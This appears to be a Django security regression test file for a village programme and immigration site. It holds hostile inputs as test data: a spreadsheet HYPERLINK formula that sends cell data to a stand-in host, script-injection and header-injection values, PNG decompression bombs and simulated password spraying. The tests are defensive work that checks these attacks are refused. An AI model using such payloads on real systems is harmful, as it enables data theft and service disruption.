"""Security, round two (issue 15): each finding of the attacker's probe, as a
test that failed on the code it was found in."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from faq.models import FaqQuestionPage, Feedback
from search.models import QueryLog
from tests import world
from tests.factories import PASSWORD, TrainingSessionFactory
from tests.village_programs.conftest import make_officer
from village_programs import history
from village_programs.models import OutreachRequest, TrainingSession, Village

pytestmark = pytest.mark.django_db

SUKAMAJU = "98.01.01.2001"
LONG_AGO = timezone.now() - datetime.timedelta(days=800)


def staff(group="Village programme staff", username="staff"):
    user = User.objects.create_user(username, password=PASSWORD)
    user.groups.add(Group.objects.get(name=group))
    client = Client(HTTP_HOST=world.HOST)
    client.force_login(user)
    return user, client


# 3. CSV formula injection ----------------------------------------------------------


def exported_rows(client, path):
    response = client.get(path, {"export": "csv"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_an_officers_formula_reaches_the_export_as_text():
    formula = '=HYPERLINK("https://calo.example/?d="&A1,"Klik")'
    TrainingSessionFactory(village=Village.objects.get(code=SUKAMAJU), place=formula, facilitators="@SUM(1+1)")
    _user, client = staff()
    rows = exported_rows(client, "/admin/village-programme/sessions/")
    cells = [cell for row in rows for cell in row]
    assert formula not in cells and "'" + formula in cells
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "+")]


# 4. Retention --------------------------------------------------------------------


@pytest.fixture
def old_session(db):
    officer = make_officer("sukamaju-officer", SUKAMAJU)
    session = TrainingSessionFactory(
        village=Village.objects.get(code=SUKAMAJU), facilitators="Bu Sulastri", notes="Peserta: Pak Darman"
    )
    history.record(session, officer.user, "created")
    history.record(session, officer.user, "edited", {"facilitators": ["Bu Sulastri", "Bu Sulastri, Pak Darman"]})
    TrainingSession.objects.filter(pk=session.pk).update(created_at=LONG_AGO)
    return officer, session


def test_the_purge_removes_names_from_the_sessions_history_too(old_session):
    _officer, session = old_session
    call_command("purge_personal_data", stdout=io.StringIO())
    session.refresh_from_db()
    assert (session.facilitators, session.notes) == ("", "")
    stored = str(list(session.changes.values_list("changes", flat=True)))
    assert "Sulastri" not in stored and "Darman" not in stored
    assert session.changes.filter(action="edited", changes__has_key="facilitators").exists()  # what changed, when


def test_the_officers_session_page_still_opens_after_the_purge(old_session):
    officer, session = old_session
    call_command("purge_personal_data", stdout=io.StringIO())
    client = Client(HTTP_HOST=world.HOST)
    client.force_login(officer.user)
    response = client.get(f"/id/desa/sesi/{session.pk}/")
    assert response.status_code == 200
    assert "Sulastri" not in response.content.decode()


def test_outreach_contacts_are_purged_once_a_request_is_long_finished(old_session):
    village = Village.objects.get(code=SUKAMAJU)
    common = {
        "village": village,
        "place_name": "Balai Desa Sukamaju",
        "place_address": "Jl. Raya Sukamaju",
        "preferred_dates": ["2024-01-10"],
        "expected_applicants": 30,
        "services": ["new"],
        "contact_name": "Pak Darman",
        "contact_phone": "+6281234567890",
        "notes": "Hubungi Pak Darman",
    }
    finished = OutreachRequest.objects.create(state=OutreachRequest.State.COMPLETED, **common)
    active = OutreachRequest.objects.create(state=OutreachRequest.State.SCHEDULED, **common)
    OutreachRequest.objects.filter(pk__in=[finished.pk, active.pk]).update(updated_at=LONG_AGO)
    call_command("purge_personal_data", stdout=io.StringIO())
    finished.refresh_from_db()
    active.refresh_from_db()
    assert (finished.contact_name, finished.contact_phone, finished.notes) == ("", "", "")
    assert finished.expected_applicants == 30
    assert active.contact_name == "Pak Darman"  # the office may still need to call


def test_the_query_log_and_faq_comments_have_a_retention_period(settings):
    question = FaqQuestionPage.objects.filter(locale__language_code="id").first()
    old = Feedback.objects.create(question=question, helpful=False, comment="kurang jelas")
    Feedback.objects.filter(pk=old.pk).update(created_on=LONG_AGO.date())
    recent = Feedback.objects.create(question=question, helpful=True, comment="jelas")
    QueryLog.objects.create(query="paspor lama", language="id", day=LONG_AGO.date(), hits=3)
    QueryLog.objects.create(query="paspor baru", language="id", day=timezone.localdate(), hits=1)
    out = io.StringIO()
    call_command("purge_personal_data", stdout=out)
    old.refresh_from_db()
    recent.refresh_from_db()
    assert (old.comment, old.helpful) == ("", False)
    assert recent.comment == "jelas"
    assert list(QueryLog.objects.values_list("query", flat=True)) == ["paspor baru"]
    assert "1 search query log row(s)" in out.getvalue()


def test_a_nik_typed_into_feedback_is_never_stored(client):
    question = FaqQuestionPage.objects.filter(locale__language_code="id").first()
    client.post(
        f"/id/tanya-jawab/tanggapan/{question.pk}/",
        {"helpful": "no", "comment": "NIK saya 3201.2345.6789.0123, wa 0812 3456 7890"},
        HTTP_ORIGIN=f"http://{world.HOST}",
    )
    (comment,) = Feedback.objects.values_list("comment", flat=True)
    assert comment == "NIK saya #, wa #"


# 5. Decompression bombs ----------------------------------------------------------


@pytest.mark.parametrize("side", [10_000, 30_000])
def test_a_tiny_file_claiming_a_huge_picture_is_refused_by_the_admin(admin_client, side):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from wagtail.images.models import Image as WagtailImage

    from tools.bombs import png_bomb

    count = WagtailImage.objects.count()
    bomb = png_bomb(side, side)
    response = admin_client.post(
        "/admin/images/add/", {"title": "bom", "file": SimpleUploadedFile("bom.png", bomb, "image/png")}
    )
    assert response.status_code == 200  # the form again, with the reason
    assert "pixels" in response.content.decode() or "piksel" in response.content.decode()
    multiple = admin_client.post(
        "/admin/images/multiple/add/", {"files[]": SimpleUploadedFile("bom.png", bomb, "image/png")}
    )
    assert multiple.status_code < 500 and multiple.json()["success"] is False
    assert WagtailImage.objects.count() == count


@pytest.mark.parametrize("side", [10_000, 30_000])
def test_a_tiny_file_claiming_a_huge_picture_is_refused_as_an_officers_photo(side):
    import resource

    from django.core.exceptions import ValidationError
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tools.bombs import png_bomb
    from village_programs.photos import clean_photo

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(ValidationError) as refusal:
        clean_photo(SimpleUploadedFile("absen.png", png_bomb(side, side), "image/png"))
    assert "50" in str(refusal.value)  # names the limit
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 100, f"decoding the bomb took {grown_mb:.0f} MB"


# 6. Photos before the first-login password change -------------------------------------


def test_photos_are_not_served_before_the_forced_password_change():
    from django.core.files.uploadedfile import SimpleUploadedFile

    from village_programs.models import SessionPhoto

    officer = make_officer("newcomer", SUKAMAJU, must_change_password=True)
    session = TrainingSessionFactory(village=Village.objects.get(code=SUKAMAJU))
    photo = SessionPhoto.objects.create(session=session, kind="attendance", image=SimpleUploadedFile("a.jpg", b"x"))
    client = Client(HTTP_HOST=world.HOST)
    client.force_login(officer.user)
    response = client.get(f"/id/desa/sesi/{session.pk}/foto/{photo.pk}/")
    assert response.status_code == 302 and response["Location"] == "/id/desa/kata-sandi/"


# 7. Admin reports need their permissions ----------------------------------------------


@pytest.mark.parametrize(
    ("group", "path", "allowed"),
    [
        ("Editors", "/admin/village-programme/report/", False),
        ("Reviewers", "/admin/village-programme/report/", True),
        ("Village programme staff", "/admin/village-programme/report/", True),
        ("Village programme staff", "/admin/faq/feedback/", False),
        ("Village programme staff", "/admin/search/queries/", False),
        ("Editors", "/admin/faq/feedback/", True),
        ("Editors", "/admin/search/queries/", True),
    ],
)
def test_admin_reports_open_only_for_those_allowed(group, path, allowed):
    _user, client = staff(group)
    response = client.get(path)
    assert (response.status_code == 200) is allowed, response.status_code
    if not allowed:
        assert response.status_code in (302, 403)
        menu = client.get("/admin/").content.decode()
        assert f'href="{path}"' not in menu


# 8. Village programme staff cannot unlock the superuser ------------------------------------


def test_village_staff_cannot_unlock_a_superuser():
    from axes.models import AccessAttempt

    User.objects.create_superuser("kepala", password=PASSWORD)
    make_officer("sukamaju-officer", SUKAMAJU)
    for username in ("kepala", "sukamaju-officer"):
        AccessAttempt.objects.create(
            username=username, ip_address="36.66.1.10", user_agent="x", failures_since_start=10
        )
    _user, client = staff()
    listing = client.get("/admin/village-programme/locked-accounts/").content.decode()
    assert "sukamaju-officer" in listing and "kepala" not in listing
    client.post("/admin/village-programme/locked-accounts/", {"username": "kepala"})
    assert AccessAttempt.objects.filter(username="kepala").exists()  # still locked
    client.post("/admin/village-programme/locked-accounts/", {"username": "sukamaju-officer"})
    assert not AccessAttempt.objects.filter(username="sukamaju-officer").exists()


# 13. Validation gaps -------------------------------------------------------------------


def officer_form(**overrides):
    data = {
        "username": "sukamaju-kaur",
        "full_name": "Siti Rahma",
        "email": "",
        "position": "Kaur Umum",
        "phone": "0812-3456-7890",
        "villages": [str(Village.objects.get(code=SUKAMAJU).pk)],
        "temporary_password": "sementara-2026-sukamaju",
    }
    data.update(overrides)
    return data


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"username": "sukamaju kaur"}, "username"),
        ({"username": 'sukamaju"><script>'}, "username"),
        ({"username": "sukamaju'kaur"}, "username"),
        ({"phone": "=1+1"}, "phone"),
        ({"phone": "@SUM(A1)"}, "phone"),
    ],
)
def test_an_officer_account_takes_only_sane_names_and_numbers(overrides, field):
    from village_programs.models import VillageOfficer
    from village_programs.wagtail_hooks import VillageOfficerViewSet

    VillageOfficerForm = VillageOfficerViewSet.edit_handler.bind_to_model(VillageOfficer).get_form_class()
    form = VillageOfficerForm(data=officer_form(**overrides), instance=VillageOfficer())
    assert not form.is_valid()
    assert field in form.errors
    good = VillageOfficerForm(data=officer_form(), instance=VillageOfficer())
    assert good.is_valid(), good.errors
    assert good.cleaned_data["phone"] == "+6281234567890"


def test_a_session_dated_in_year_one_is_refused(client):
    from village_programs.forms import TrainingSessionForm

    officer = make_officer("sukamaju-officer", SUKAMAJU)
    form = TrainingSessionForm(
        data={"date": "0001-01-01", "village": str(Village.objects.get(code=SUKAMAJU).pk)}, officer=officer
    )
    form.is_valid()
    assert "date" in form.errors


def test_the_data_download_name_holds_nothing_the_officer_typed():
    from village_programs.my_data import download

    officer = make_officer('desa"\r\nX-Evil: 1', SUKAMAJU)
    disposition = download(officer)["Content-Disposition"]
    assert disposition.startswith('attachment; filename="my-data-') and disposition.endswith('.json"')
    assert "\n" not in disposition and "Evil" not in disposition


# 14. SQLite shared by the site and the worker --------------------------------------------


def test_sqlite_waits_for_the_lock_instead_of_failing(tmp_path):
    import os
    import subprocess
    import sys

    from tests.home.test_settings import OUR_VARIABLES, PROJECT

    code = (
        "import django; django.setup()\n"
        "from django.db import connection\n"
        "with connection.cursor() as c:\n"
        "    c.execute('PRAGMA journal_mode'); print(c.fetchone()[0])\n"
        "    c.execute('PRAGMA busy_timeout'); print(c.fetchone()[0])\n"
        "print(connection.settings_dict['OPTIONS']['transaction_mode'])\n"
    )
    env = {key: value for key, value in os.environ.items() if key not in OUR_VARIABLES}
    env.update(DJANGO_SETTINGS_MODULE="config.settings.dev", DATABASE_URL=f"sqlite:///{tmp_path / 'site.sqlite3'}")
    result = subprocess.run([sys.executable, "-c", code], cwd=PROJECT, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["wal", "20000", "IMMEDIATE"]


# 12. Accounts at ASVS level 2 -------------------------------------------------------------


@pytest.mark.parametrize(
    ("password", "accepted"), [("desaku-2026", False), ("qwerty123456", False), ("kopi-tubruk-di-balai-desa", True)]
)
def test_passwords_need_twelve_characters_and_must_not_be_common(password, accepted):
    from django.contrib.auth.password_validation import validate_password
    from django.core.exceptions import ValidationError

    try:
        validate_password(password)
    except ValidationError:
        assert not accepted
    else:
        assert accepted


@pytest.mark.parametrize(
    ("idle_minutes", "hours_since_login", "still_in"), [(5, 1, True), (31, 1, False), (1, 13, False)]
)
def test_officer_sessions_end_when_idle_or_old(idle_minutes, hours_since_login, still_in):
    import time

    officer = make_officer("sukamaju-officer", SUKAMAJU)
    client = Client(HTTP_HOST=world.HOST)
    client.force_login(officer.user)
    session = client.session
    now = int(time.time())
    session["seen_at"] = now - idle_minutes * 60
    session["logged_in_at"] = now - hours_since_login * 3600
    session.save()
    response = client.get("/id/desa/")
    assert (response.status_code == 200) is still_in, response.status_code
    if not still_in:
        assert response["Location"].startswith("/id/desa/masuk/")


def test_password_spraying_from_one_address_is_stopped(settings):
    settings.LOGIN_FAILURES_PER_CLIENT = (5, 3600)
    officer = make_officer("sukamaju-officer", SUKAMAJU)
    sprayer = Client(HTTP_HOST=world.HOST)
    for n in range(5):
        sprayer.post("/id/desa/masuk/", {"username": f"perangkat-{n}", "password": "Bismillah123"})
    refused = sprayer.post("/id/desa/masuk/", {"username": "sukamaju-officer", "password": PASSWORD})
    assert refused.status_code == 429
    assert "_auth_user_id" not in sprayer.session
    assert (
        Client(HTTP_HOST=world.HOST, REMOTE_ADDR="36.66.1.10")
        .post("/id/desa/masuk/", {"username": officer.user.username, "password": PASSWORD})
        .status_code
        == 302
    )  # another address is not affected


def test_password_reset_mails_are_limited(settings, mailoutbox):
    settings.PASSWORD_RESET_RATE_LIMIT = (3, 3600)
    User.objects.create_user("reviewer-ani", email="ani@example.org", password=PASSWORD, is_staff=True)
    statuses = [
        Client(HTTP_HOST=world.HOST, REMOTE_ADDR=f"36.66.1.{n}")
        .post("/admin/password_reset/", {"email": "ani@example.org"})
        .status_code
        for n in range(5)
    ]
    assert statuses == [302, 302, 302, 429, 429]
    assert len(mailoutbox) == 3
    flood = Client(HTTP_HOST=world.HOST, REMOTE_ADDR="114.124.2.20")
    assert [flood.post("/admin/password_reset/", {"email": f"x{n}@example.org"}).status_code for n in range(4)] == [
        302,
        302,
        302,
        429,
    ]


# 12. A second factor for staff ------------------------------------------------------------


def admin_login(client, username, password=PASSWORD):
    return client.post("/admin/login/", {"username": username, "password": password, "next": "/admin/"})


def code(device, steps_ahead=0):
    from django_otp.oath import totp

    return f"{totp(device.bin_key, step=device.step, t0=device.t0, digits=device.digits, drift=steps_ahead):06d}"


def test_a_superuser_must_set_up_a_second_step_and_then_give_a_code_at_each_login(settings):
    import re

    from django_otp.plugins.otp_totp.models import TOTPDevice

    settings.STAFF_TWO_FACTOR = ["superusers"]
    User.objects.create_superuser("kepala", password=PASSWORD)
    client = Client(HTTP_HOST=world.HOST)
    admin_login(client, "kepala")
    to_setup = client.get("/admin/pages/")
    assert to_setup.status_code == 302 and to_setup["Location"].startswith("/admin/2fa/setup/")
    page = client.get(to_setup["Location"]).content.decode()
    key = re.search(r'<code id="two-factor-key"[^>]*>([A-Z2-7=]+)</code>', page).group(1)
    assert "<svg" in page  # the code to scan
    device = TOTPDevice.objects.get(user__username="kepala")
    assert client.post("/admin/2fa/setup/", {"token": "000000"}).status_code == 200  # wrong: asked again
    device.refresh_from_db()
    device.throttle_reset()  # a wrong code makes the next try wait a second; the test does not
    done = client.post("/admin/2fa/setup/", {"token": code(device), "next": "/admin/pages/"})
    # Backup codes, shown once, then on to where the user was going.
    assert done.status_code == 200 and 'href="/admin/pages/"' in done.content.decode()
    assert len(re.findall(r"<li>[a-z2-7]{8}</li>", done.content.decode())) == 10
    assert client.get("/admin/pages/").status_code == 200
    device.refresh_from_db()
    assert device.confirmed and len(key) >= 32

    later = Client(HTTP_HOST=world.HOST)
    admin_login(later, "kepala")
    asked = later.get("/admin/")
    assert asked["Location"].startswith("/admin/2fa/verify/")
    assert later.get("/admin/pages/").status_code == 302  # nothing without the code
    wrong = later.post("/admin/2fa/verify/", {"token": "123456"}).content.decode()
    assert "not right" in wrong or "tidak benar" in wrong
    device.refresh_from_db()
    device.throttle_reset()
    assert later.post("/admin/2fa/verify/", {"token": code(device, steps_ahead=1)}).status_code == 302
    assert later.get("/admin/").status_code == 200


def test_editors_are_not_forced_but_anyone_with_a_device_is_asked(settings):
    from django_otp.plugins.otp_totp.models import TOTPDevice

    settings.STAFF_TWO_FACTOR = ["superusers"]
    user, _client = staff("Editors", username="editor-budi")
    client = Client(HTTP_HOST=world.HOST)
    admin_login(client, "editor-budi")
    assert client.get("/admin/").status_code == 200
    TOTPDevice.objects.create(user=user, name="phone", confirmed=True)
    again = Client(HTTP_HOST=world.HOST)
    admin_login(again, "editor-budi")
    assert again.get("/admin/")["Location"].startswith("/admin/2fa/verify/")


def test_production_refuses_to_start_without_a_second_step_for_superusers():
    from tests.home.test_settings import GOOD_SECRET, load_settings

    production = {
        "SECRET_KEY": GOOD_SECRET,
        "ALLOWED_HOSTS": "imigrasi.example",
        "DATABASE_URL": "postgres://office@127.0.0.1:5432/kanim",
        "ALLOW_LOCAL_CACHE": "on",
    }
    refused = load_settings("config.settings.production", STAFF_TWO_FACTOR="reviewers", **production)
    assert refused.returncode != 0 and "STAFF_TWO_FACTOR must include superusers" in refused.stderr
    assert load_settings("config.settings.production", **production).returncode == 0


# 2. Nothing public changes live at the hand of a role without the publish right ----------------


# Banners, events and offices have drafts now (tests/home/test_review.py); a fee's name does not yet.
LIVE_WHEN_SAVED = ["/admin/snippets/education/fee/add/"]


@pytest.mark.parametrize("path", LIVE_WHEN_SAVED)
def test_editors_cannot_write_what_goes_live_when_saved_and_reviewers_can(path):
    _editor, editor = staff("Editors", username="editor-budi")
    assert editor.get(path).status_code in (302, 403)
    _reviewer, reviewer = staff("Reviewers", username="reviewer-ani")
    assert reviewer.get(path).status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/admin/snippets/education/feerate/add/",
        "/admin/snippets/home/alertbanner/add/",
        "/admin/snippets/education/serviceevent/add/",
        "/admin/snippets/home/office/add/",
    ],
)
def test_editors_propose_for_review_what_has_drafts(path):
    _editor, editor = staff("Editors", username="editor-budi")
    page = editor.get(path)
    assert page.status_code == 200
    assert 'name="action-publish"' not in page.content.decode()
    assert 'name="action-submit"' in page.content.decode()  # to the reviewers' workflow
